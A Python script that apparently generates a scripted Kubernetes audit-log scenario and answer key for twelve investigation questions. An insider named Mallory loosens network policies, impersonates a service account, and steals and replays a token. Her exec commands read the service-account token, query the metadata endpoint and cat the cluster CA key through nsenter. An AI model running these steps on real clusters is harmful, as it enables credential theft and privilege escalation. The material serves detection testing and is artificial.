#!/usr/bin/env python3
"""The story that twelve questions are asked about: story.py URL CA KEYS KUBECTL TRUTH, the administrator's token in TOKEN_admin.

A shop's team deploys. Mallory, one of them, opens its network, takes what isn't hers, and is refused now and then. Olivia runs the platform,
Dana develops, Sam supports, Igor runs the Ingress controller. Every name is always the same one. TRUTH becomes one JSON line for each request:
its audit id, who sent it, what, how it ended, and which questions it is an answer to.
"""

import base64
import json
import os
import sys
import time

from story_client import JSON_PATCH, MERGE, STRATEGIC, Person, Stage, neighbours

RBAC, NET, APPS = "/apis/rbac.authorization.k8s.io/v1", "/apis/networking.k8s.io/v1", "/apis/apps/v1"
DELETED, TOKEN, BYPASS, LOOSENED, SECRETS, EXEC, AS, DENIED, INGRESS, ADDRESS, GRANTED, DRY = range(1, 13)  # the questions' numbers
WEB, POLICIES = f"{NET}/namespaces/shop/networkpolicies/web", f"{NET}/namespaces/payments/networkpolicies"


def named(api, kind, name, namespace=None, **rest):
    labels = rest.pop("labels", None)
    metadata = {"name": name, **({"namespace": namespace} if namespace else {}), **({"labels": labels} if labels else {})}
    return {"apiVersion": api, "kind": kind, "metadata": metadata, **rest}


def policy(name, ingress, selector=None, types=("Ingress",), annotations=None, namespace="shop"):
    made = named(
        "networking.k8s.io/v1",
        "NetworkPolicy",
        name,
        namespace,
        spec={"podSelector": {"matchLabels": selector or {"app": "web"}}, "policyTypes": list(types), "ingress": ingress},
    )
    if annotations:
        made["metadata"]["annotations"] = annotations
    return made


def grant(name, role, subject, namespace, role_kind="ClusterRole", subject_kind="User"):
    group = "rbac.authorization.k8s.io"
    who = {"kind": subject_kind, "name": subject, **({"namespace": namespace} if subject_kind == "ServiceAccount" else {"apiGroup": group})}
    kind = "RoleBinding" if namespace else "ClusterRoleBinding"
    return named(f"{group}/v1", kind, name, namespace, subjects=[who], roleRef={"apiGroup": group, "kind": role_kind, "name": role})


def role(name, namespace, *rules):
    """Each rule: group, resource, verbs."""
    return named(
        "rbac.authorization.k8s.io/v1",
        "Role" if namespace else "ClusterRole",
        name,
        namespace,
        rules=[{"apiGroups": [group], "resources": [resource], "verbs": verbs.split()} for group, resource, verbs in rules],
    )


def pod(name, namespace, **spec):
    privileged = spec.pop("privileged", False)
    container = {"name": "main", "image": "registry.example.internal/shop/web:1.4.0", **({"securityContext": {"privileged": True}} if privileged else {})}
    return named("v1", "Pod", name, namespace, labels={"app": name}, spec={"containers": [container], **spec})


def admission(api, kind, name, **spec):
    return named(f"admissionregistration.k8s.io/{api}", kind, name, spec=spec)


GATEWAY = {"from": [{"podSelector": {"matchLabels": {"app": "gateway"}}}], "ports": [{"protocol": "TCP", "port": 8080}]}
ANYBODY = {"from": [{"ipBlock": {"cidr": "0.0.0.0/0"}}], "ports": [{"protocol": "TCP", "port": 8080}]}


def ingress(*hosts, tls=True, service="web"):
    backend = {"service": {"name": service, "port": {"number": 80}}}
    rules = [{"host": host, "http": {"paths": [{"path": "/", "pathType": "Prefix", "backend": backend}]}} for host in hosts]
    return named(
        "networking.k8s.io/v1",
        "Ingress",
        "web",
        "shop",
        spec={"ingressClassName": "edge", "rules": rules, **({"tls": [{"hosts": [hosts[0]], "secretName": "web-tls"}]} if tls else {})},
    )


def deployment(image):
    labels = {"app": "web"}
    container = {"name": "web", "image": image, "args": ["--listen=:8080", "--origin=https://shop.example.com/?a=1&b=<2>"]}
    return named(
        "apps/v1",
        "Deployment",
        "web",
        "shop",
        spec={"replicas": 2, "selector": {"matchLabels": labels}, "template": {"metadata": {"labels": labels}, "spec": {"containers": [container]}}},
    )


def service(name):
    return named("v1", "Service", name, "shop", spec={"selector": {"app": name}, "ports": [{"port": 80, "targetPort": 8080}]})


def yaml(*objects):
    """JSON is YAML."""
    return "\n---\n".join(json.dumps(one) for one in objects)


def secret(name, namespace, value):
    return named("v1", "Secret", name, namespace, stringData={"password": value})


def the_cluster(admin, kubelet, ca):
    """What was there before: namespaces, people's rights, guardrails, a node."""
    for name, labels in (("shop", {"pod-security.kubernetes.io/enforce": "baseline"}), ("payments", {"guarded": "yes"}), ("sandbox", {})):
        admin.does("POST", "/api/v1/namespaces", named("v1", "Namespace", name, labels=labels))
    bindings = [
        grant("platform", "cluster-admin", "platform", None, subject_kind="Group"),
        grant("developers", "edit", "developers", "shop", subject_kind="Group"),
        grant("tools", "dev-tools", "developers", "shop", "Role", "Group"),
        grant("dana", "edit", "dana", "payments"),
        grant("looks", "view", "mallory", "payments"),
        grant("left-over", "left-over", "mallory", "payments", "Role"),
        grant("mallory", "edit", "mallory", "sandbox"),
        grant("hands-out", "hands-out", "mallory", "sandbox", "Role"),
        grant("operator", "edit", "operator", "payments", subject_kind="ServiceAccount"),
        grant("deployer", "admin", "deployer", "shop", subject_kind="ServiceAccount"),
        grant("support", "support", "sam", None),
        grant("edge", "edge", "igor", None),
    ]
    roles = [
        role("dev-tools", "shop", ("", "pods/log", "get"), ("rbac.authorization.k8s.io", "roles", "get list patch update escalate")),
        role("left-over", "payments", ("", "serviceaccounts", "impersonate")),
        role(
            "hands-out",
            "sandbox",
            ("rbac.authorization.k8s.io", "rolebindings", "get list create patch"),
            ("rbac.authorization.k8s.io", "clusterroles", "bind"),
        ),
        role("support", None, ("", "users", "impersonate"), ("", "pods", "get list")),
        role(
            "edge",
            None,
            ("networking.k8s.io", "ingresses", "get list watch"),
            ("networking.k8s.io", "ingresses/status", "update patch"),
            ("", "secrets", "get"),
        ),
    ]
    for one in roles + bindings:
        kind = one["kind"].lower() + "s"
        space = one["metadata"].get("namespace")
        admin.does("POST", f"{RBAC}/namespaces/{space}/{kind}" if space else f"{RBAC}/{kind}", one)
    for space, name in (("shop", "deployer"), ("payments", "operator")):
        admin.does("POST", f"/api/v1/namespaces/{space}/serviceaccounts", named("v1", "ServiceAccount", name, space))
    for space, name in (("shop", "web-tls"), ("shop", "session"), ("payments", "db-password")):
        admin.does("POST", f"/api/v1/namespaces/{space}/secrets", secret(name, space, f"made up for {name}"))
    # A node whose kubelet is a neighbour in this process.
    status = {"addresses": [{"type": "InternalIP", "address": "127.0.0.1"}], "daemonEndpoints": {"kubeletEndpoint": {"Port": kubelet}}}
    admin.does("POST", "/api/v1/nodes", {**named("v1", "Node", "worker-1"), "status": status})
    guardrails(admin, kubelet, ca)


def guardrails(admin, port, ca):
    def matches(group, resource):
        rule = {"apiGroups": [group], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"], "resources": [resource]}
        return {"resourceRules": [rule]}

    guarded = {"namespaceSelector": {"matchLabels": {"guarded": "yes"}}}
    ticket = {"expression": "'example.com/ticket' in object.metadata.?annotations.orValue({})", "message": "a NetworkPolicy here needs a ticket"}
    registry = {"expression": "object.spec.containers.all(c, c.image.startsWith('registry.example.internal/'))", "message": "an image from elsewhere"}
    for name, constraints, validation, actions in (
        ("ticket", {**matches("networking.k8s.io", "networkpolicies"), **guarded}, ticket, ["Deny", "Audit"]),
        ("registry", matches("", "pods"), registry, ["Audit"]),
    ):
        admin.does(
            "POST",
            "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies",
            admission("v1", "ValidatingAdmissionPolicy", name, matchConstraints=constraints, validations=[validation]),
        )
        admin.does(
            "POST",
            "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings",
            admission("v1", "ValidatingAdmissionPolicyBinding", name, policyName=name, validationActions=actions),
        )
    with open(ca, "rb") as fh:
        bundle = base64.b64encode(fh.read()).decode()
    webhook = {
        "name": "names.example.com",
        "admissionReviewVersions": ["v1"],
        "sideEffects": "None",
        "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["configmaps"]}],
        "namespaceSelector": {"matchLabels": {"guarded": "yes"}},
        "clientConfig": {"url": f"https://127.0.0.1:{port}/names", "caBundle": bundle},
    }
    admin.does(
        "POST",
        "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations",
        {**named("admissionregistration.k8s.io/v1", "ValidatingWebhookConfiguration", "names"), "webhooks": [webhook]},
    )


def in_force(admin):
    """An apiserver takes guardrails up within seconds of their being written. Until then it's asked for, in dry runs."""
    until = time.monotonic() + 30
    for path, body in (
        (f"{POLICIES}?dryRun=All", policy("probe", [GATEWAY], namespace="payments")),
        ("/api/v1/namespaces/payments/configmaps?dryRun=All", named("v1", "ConfigMap", "probe", "payments")),
    ):
        while "kind" in (said := admin.does("POST", path, body, code=(201, 403, 422))) and said["kind"] != "Status":
            admin.stage.happened[-1]["answers"] = [DRY]
            if time.monotonic() > until:
                raise SystemExit(f"story: {path}: nothing denies it")
            time.sleep(0.2)
        admin.stage.happened[-1]["answers"] = [DENIED, DRY]


def deploys(ci, dana, igor):
    allowed = policy("web", [GATEWAY])
    ci.kubectl("apply", "-f", "-", stdin=yaml(deployment("registry.example.internal/shop/web:1.4.0"), service("web"), service("old-web")))
    ci.kubectl("apply", "-f", "-", stdin=yaml(allowed))
    ci.kubectl("apply", "-f", "-", stdin=yaml(ingress("shop.example.com")), noted=f"POST {NET}/namespaces/shop/ingresses", answers=[INGRESS])
    igor.does("GET", "/api/v1/namespaces/shop/secrets/web-tls", answers=[SECRETS])
    igor.does("PATCH", f"{NET}/namespaces/shop/ingresses/web/status", {"status": {"loadBalancer": {"ingress": [{"ip": "192.0.2.80"}]}}}, MERGE)
    ci.kubectl("-n", "shop", "set", "image", "deployment/web", "web=registry.example.internal/shop/web:1.4.1")
    ci.kubectl("-n", "shop", "annotate", "deployment/web", "kubernetes.io/change-cause=release 1.4.1, OPS-31")
    ci.kubectl("-n", "shop", "scale", "deployment/web", "--replicas=3")
    dana.kubectl("-n", "shop", "rollout", "restart", "deployment/web")
    ci.does("POST", "/api/v1/namespaces/shop/pods", pod("web-0", "shop", nodeName="worker-1"))
    dana.does(
        "POST",
        POLICIES,
        policy(
            "db",
            [{"from": [{"podSelector": {"matchLabels": {"app": "web"}}}]}],
            {"app": "db"},
            namespace="payments",
            annotations={"example.com/ticket": "OPS-30"},
        ),
    )
    # A Deployment whose selector doesn't fit is refused too, and by no policy.
    broken = deployment("registry.example.internal/shop/web:1.4.1")
    broken["metadata"]["name"], broken["spec"]["selector"] = "broken", {"matchLabels": {"app": "other"}}
    dana.does("POST", f"{APPS}/namespaces/shop/deployments", broken, code=422)


def dry_runs(dana, olivia):
    """In the URI, but for deletes with a body, as kubectl's have: there the body alone counts."""
    dana.kubectl(
        "apply",
        "--dry-run=server",
        "-f",
        "-",
        stdin=yaml(ingress("shop.example.com", tls=False)),
        noted=f"PATCH {NET}/namespaces/shop/ingresses/web",
        answers=[DRY],
    )
    dana.kubectl("-n", "payments", "delete", "networkpolicy", "db", "--dry-run=server", noted=f"DELETE {POLICIES}/db", answers=[DRY])
    dana.does("DELETE", f"{APPS}/namespaces/shop/deployments/web?dryRun=All", answers=[DRY])
    olivia.does(
        "PATCH",
        f"{RBAC}/namespaces/shop/roles/dev-tools?dryRun=All",
        [{"op": "add", "path": "/rules/-", "value": {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}}],
        JSON_PATCH,
        answers=[DRY],
    )


def the_ingress(dana, mallory, sam):
    """By hand: an editor, a JSON patch, a merge patch; and an apply that changes nothing."""
    at = f"{NET}/namespaces/shop/ingresses/web"
    dana.kubectl("-n", "shop", "edit", "ingress", "web", editor="sed -i s/shop.example.com/www.example.com/", noted=f"PATCH {at}", answers=[INGRESS])
    sam.does("PATCH", at, {"spec": {"ingressClassName": "other"}}, MERGE, code=403, answers=[DENIED])
    mallory.does("PATCH", at, [{"op": "replace", "path": "/spec/rules/0/http/paths/0/backend/service/name", "value": "old-web"}], JSON_PATCH, answers=[INGRESS])
    mallory.does("PATCH", at, {"spec": {"tls": None}}, MERGE, answers=[INGRESS])
    for _ in range(2):
        dana.kubectl(
            "apply",
            "--server-side",
            "--field-manager=shop-team",
            "-f",
            "-",
            stdin=yaml(named("networking.k8s.io/v1", "Ingress", "web", "shop", labels={"team": "shop"})),
            noted=f"PATCH {at}",
            answers=[INGRESS],
        )


def the_network(mallory, dana, olivia):
    """The NetworkPolicy shop/web is loosened in five ways. Between them it's put right, and written to without being loosened."""
    restored = policy("web", [GATEWAY])

    def put_right():
        now = olivia.does("GET", WEB)
        olivia.does("PUT", WEB, {**now, "spec": restored["spec"]})

    mallory.kubectl(
        "-n",
        "shop",
        "patch",
        "networkpolicy",
        "web",
        "--type=json",
        "-p",
        json.dumps([{"op": "add", "path": "/spec/ingress/-", "value": ANYBODY}]),
        noted=f"PATCH {WEB}",
        answers=[LOOSENED],
    )
    put_right()
    mallory.does("PATCH", WEB, {"spec": {"ingress": [{}]}}, MERGE, answers=[LOOSENED])
    dana.does("PATCH", WEB, {"metadata": {"labels": {"reviewed": "no"}}}, MERGE)
    put_right()
    mallory.does("PATCH", WEB, {"spec": {"podSelector": {"$patch": "replace", "matchLabels": {"app": "web", "tier": "canary"}}}}, STRATEGIC, answers=[LOOSENED])
    put_right()
    # kubectl sends four patches here: its apply, and then what moves its own notes from one way of keeping them to the other.
    anywhere = {"from": [{"namespaceSelector": {}}], "ports": [{"protocol": "TCP", "port": 1, "endPort": 65535}]}
    mallory.kubectl(
        "apply",
        "--server-side",
        "--force-conflicts",
        "-f",
        "-",
        stdin=yaml(policy("web", [GATEWAY, anywhere])),
        noted=f"PATCH {WEB}",
        answers=[LOOSENED],
        first=True,
    )
    put_right()
    now = mallory.does("GET", WEB)
    mallory.does("PUT", WEB, {**now, "spec": {"podSelector": {"matchLabels": {"app": "web"}}, "policyTypes": ["Egress"], "egress": [{}]}}, answers=[LOOSENED])
    # Tighter than before: nothing may come in, and that isn't what is asked about.
    dana.does("PATCH", WEB, {"spec": {"policyTypes": ["Ingress", "Egress"], "ingress": []}}, MERGE)
    dana.does("PATCH", f"{WEB}?dryRun=All", {"spec": {"ingress": [{}]}}, MERGE, answers=[DRY])


def refused_then_not(mallory, operator, dana):
    """By RBAC, Pod Security and a validating policy; and each time another way is found."""
    mallory.does("DELETE", f"{POLICIES}/db", code=403, answers=[DENIED])
    mallory.does("PATCH", f"{POLICIES}/db", {"spec": {"ingress": [{}]}}, MERGE, code=403, answers=[DENIED])
    mallory.does("GET", f"{POLICIES}/db")
    operator.does("DELETE", f"{POLICIES}/db", answers=[DELETED, BYPASS, AS])
    dana.does("POST", POLICIES, policy("db", [{}], {"app": "db"}, namespace="payments"), code=422, answers=[DENIED])
    dana.does("POST", POLICIES, policy("db", [{}], {"app": "db"}, namespace="payments", annotations={"example.com/ticket": "none"}), answers=[BYPASS])
    mallory.does("GET", "/api/v1/namespaces/payments/secrets/db-password", code=403, answers=[DENIED])
    mallory.does("GET", "/api/v1/namespaces/payments/secrets", code=403, answers=[DENIED])
    operator.does("GET", "/api/v1/namespaces/payments/secrets/db-password", answers=[BYPASS, SECRETS, AS])
    mallory.does("POST", "/api/v1/namespaces/shop/pods", pod("debug", "shop", privileged=True, hostPID=True), code=403, answers=[DENIED])
    mallory.does("POST", "/api/v1/namespaces/sandbox/pods", pod("debug", "sandbox", privileged=True, hostPID=True, nodeName="worker-1"), answers=[BYPASS])
    dana.does(
        "POST", "/api/v1/namespaces/payments/configmaps", named("v1", "ConfigMap", "settings", "payments", data={"mode": "test"}), code=403, answers=[DENIED]
    )
    dana.does("POST", "/api/v1/namespaces/payments/configmaps", named("v1", "ConfigMap", "team-settings", "payments", data={"mode": "test"}))
    # What the audit-only policy minds is let through.
    elsewhere = pod("tool", "sandbox")
    elsewhere["spec"]["containers"][0]["image"] = "docker.example.com/tool"
    mallory.does("POST", "/api/v1/namespaces/sandbox/pods", elsewhere)


def executions(dana, mallory, sam):
    dana.executes("shop", "web-0", "ls", "-l", "/srv", answers=[EXEC])
    mallory.executes(
        "shop",
        "web-0",
        "sh",
        "-c",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token; curl -s http://169.254.169.254/ | head -c 99 & id",
        answers=[EXEC],
    )
    mallory.executes("sandbox", "debug", "nsenter", "--target=1", "--mount", "--", "cat", "/etc/kubernetes/pki/ca.key", answers=[EXEC])
    # No node has this one.
    mallory.kubectl(
        "-n", "sandbox", "exec", "tool", "--", "sh", "-c", "echo 'größer' + 1%", code=1, noted="POST /api/v1/namespaces/sandbox/pods/tool/exec", answers=[EXEC]
    )
    mallory.executes("sandbox", "tool", "env", code=400, websocket=True, answers=[EXEC])
    sam.executes("shop", "web-0", "id", code=403, answers=[EXEC, DENIED])


def impersonates(sam, sam_as_dana):
    sam_as_dana.does("GET", "/api/v1/namespaces/payments/secrets", answers=[SECRETS, AS])
    # Users were given to Sam, and no groups. Of what is refused here the log names no impersonated user.
    sam.kubectl("--as=dana", "--as-group=developers", "-n", "shop", "get", "pods", code=1, noted="GET /api/v1/namespaces/shop/pods", answers=[DENIED])
    sam.does("GET", "/api/v1/namespaces/shop/pods", code=403, answers=[DENIED], Impersonate_User="mallory", Impersonate_Group="system:masters")
    # Olivia's rights are her group's, which doesn't come along.
    sam.kubectl("--as=olivia", "-n", "shop", "get", "pods", code=1, noted="GET /api/v1/namespaces/shop/pods", answers=[AS, DENIED])


def the_token(mallory, thief, thief_spoofed, bystander):
    """Used from elsewhere, with an audit id of the thief's own choice on two requests, and an address that isn't theirs before the one that is."""
    thief.does(
        "POST",
        "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
        {"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectRulesReview", "spec": {"namespace": "shop"}},
        answers=[TOKEN, ADDRESS],
    )
    thief.does("GET", "/api/v1/secrets", code=403, answers=[TOKEN, ADDRESS, DENIED])
    thief.does("GET", "/api/v1/namespaces/shop/secrets", answers=[TOKEN, ADDRESS, SECRETS, BYPASS])
    chosen = {"Audit_ID": "11111111-2222-4333-8444-555555555555"}
    thief.does("GET", "/api/v1/namespaces/shop/secrets/session", answers=[TOKEN, ADDRESS, SECRETS], **chosen)
    thief.does("GET", "/api/v1/namespaces/shop/pods", answers=[TOKEN, ADDRESS], **chosen)
    thief_spoofed.does("PATCH", "/api/v1/namespaces/shop/secrets/session", {"metadata": {"labels": {"seen": "yes"}}}, MERGE, answers=[TOKEN, ADDRESS])
    # Somebody else, who says to have come by way of the thief's address.
    bystander.does("GET", "/api/v1/namespaces/shop/pods")
    cron = {
        "schedule": "*/5 * * * *",
        "jobTemplate": {
            "spec": {"template": {"spec": {"restartPolicy": "Never", "containers": [{"name": "main", "image": "registry.example.internal/shop/web:1.4.0"}]}}}
        },
    }
    thief.does("POST", "/apis/batch/v1/namespaces/shop/cronjobs", named("batch/v1", "CronJob", "sync", "shop", spec=cron), answers=[TOKEN, ADDRESS])


def rights(mallory, dana, olivia):
    at = f"{RBAC}/namespaces/sandbox/rolebindings"
    mallory.does("POST", f"{RBAC}/namespaces/shop/rolebindings", grant("mine", "admin", "mallory", "shop"), code=403, answers=[DENIED])
    mallory.does("POST", at, grant("mine", "admin", "mallory", "sandbox"), answers=[GRANTED, BYPASS])
    mallory.does("POST", at, grant("theirs", "view", "sam", "sandbox"))
    mallory.does(
        "PATCH",
        f"{at}/theirs",
        [{"op": "add", "path": "/subjects/-", "value": {"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "mallory"}}],
        JSON_PATCH,
        answers=[GRANTED],
    )
    everything = [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]
    dana.does("PATCH", f"{RBAC}/namespaces/shop/roles/dev-tools", {"rules": everything}, MERGE, answers=[GRANTED])
    # Olivia isn't in the group that has this role: what she does for others isn't asked about.
    olivia.does("POST", f"{RBAC}/namespaces/sandbox/roles", {**role("all", "sandbox"), "rules": everything})
    olivia.does("POST", at, grant("all", "all", "dana", "sandbox", "Role"))


def tidies(dana, olivia, operator):
    """Deletes by name and of collections, some of them of the NetworkPolicy that is asked about."""
    dana.does("DELETE", f"{POLICIES}/db", answers=[DELETED])
    dana.does("POST", POLICIES, policy("db", [GATEWAY], {"app": "db"}, namespace="payments", annotations={"example.com/ticket": "OPS-40"}))
    dana.does("POST", POLICIES, policy("cache", [GATEWAY], {"app": "cache"}, namespace="payments", annotations={"example.com/ticket": "OPS-41"}))
    dana.does("DELETE", f"{POLICIES}?fieldSelector=metadata.name%3Dcache")
    olivia.does("DELETE", f"{POLICIES}?dryRun=All", answers=[DRY])
    operator.does("DELETE", POLICIES, answers=[DELETED, AS])
    dana.does("DELETE", f"{POLICIES}/db", code=404)
    dana.does("DELETE", "/api/v1/namespaces/payments/configmaps?labelSelector=no%3Done")
    # Where a delete has a body, the URI's dryRun is ignored: this one is real.
    dana.does("POST", POLICIES, policy("db", [GATEWAY], {"app": "db"}, namespace="payments", annotations={"example.com/ticket": "OPS-42"}))
    operator.does("DELETE", f"{POLICIES}/db?dryRun=All", {"apiVersion": "v1", "kind": "DeleteOptions"}, answers=[DELETED, AS])
    olivia.does("GET", f"{POLICIES}/db", code=404)


def main():
    url, ca, keys, kubectl, truth = sys.argv[1:]
    stage = Stage(url, ca, keys, kubectl)
    port = neighbours(f"{keys}/kubelet.crt", f"{keys}/kubelet.key")
    curl = "curl/8.9.1"
    admin = Person(stage, "admin", "bootstrap/1.0", token=os.environ["TOKEN_admin"])
    olivia, dana, sam = (
        Person(stage, name, "lens/2026.11", address) for name, address in (("olivia", "127.0.0.10"), ("dana", "127.0.0.20"), ("sam", "127.0.0.40"))
    )
    igor, mallory = Person(stage, "igor", "edge-controller/3.2", "127.0.0.30"), Person(stage, "mallory", curl, "127.0.0.50")
    operator = Person(stage, "mallory", curl, "127.0.0.50", Impersonate_User="system:serviceaccount:payments:operator")
    sam_as_dana = Person(stage, "sam", "lens/2026.11", "127.0.0.40", Impersonate_User="dana")
    bystander = Person(stage, "mallory", curl, "127.0.0.50", X_Forwarded_For="127.0.0.66")

    the_cluster(admin, port, f"{keys}/kubelet.crt")
    in_force(admin)
    wanted = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"expirationSeconds": 3600}}
    at = "/api/v1/namespaces/shop/serviceaccounts/deployer/token"
    ci = Person(stage, "deployer", curl, token=admin.does("POST", at, wanted)["status"]["token"])
    deploys(ci, dana, igor)
    dry_runs(dana, olivia)
    the_ingress(dana, mallory, sam)
    the_network(mallory, dana, olivia)
    refused_then_not(mallory, operator, dana)
    executions(dana, mallory, sam)
    impersonates(sam, sam_as_dana)
    stolen = mallory.does("POST", at, wanted)["status"]["token"]
    thief = Person(stage, "thief", "python-requests/2.32.3", "127.0.0.66", stolen)
    the_token(mallory, thief, Person(stage, "thief", "python-requests/2.32.3", "127.0.0.66", stolen, X_Forwarded_For="10.0.0.5"), bystander)
    rights(mallory, dana, olivia)
    tidies(dana, olivia, operator)
    watch = thief.watches("/api/v1/namespaces/shop/secrets?watch=true", [TOKEN, ADDRESS, SECRETS])
    with open(truth, "w", encoding="utf-8") as fh:
        fh.writelines(json.dumps(one) + "\n" for one in stage.happened)
    print(f"{len(stage.happened)} requests")
    sys.stdout.flush()
    sys.stdin.read()  # the watch is open until the apiserver is gone: whoever started this says when
    del watch


if __name__ == "__main__":
    main()
